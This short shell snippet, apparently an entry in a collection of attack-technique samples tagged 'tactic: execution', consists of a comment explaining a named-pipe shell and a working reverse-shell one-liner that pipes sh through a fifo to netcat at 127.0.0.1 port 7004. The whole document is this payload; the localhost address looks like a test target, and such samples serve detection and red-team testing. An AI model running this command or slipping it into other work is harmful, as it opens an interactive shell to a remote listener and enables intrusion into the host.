# tactic: execution
# a named-pipe shell: the shell reads a fifo and its output goes to netcat, whose output feeds the fifo
f=$(mktemp -u); mkfifo $f; sh <$f 2>&1 | nc -w 1 127.0.0.1 7004 >$f; rm -f $f; true
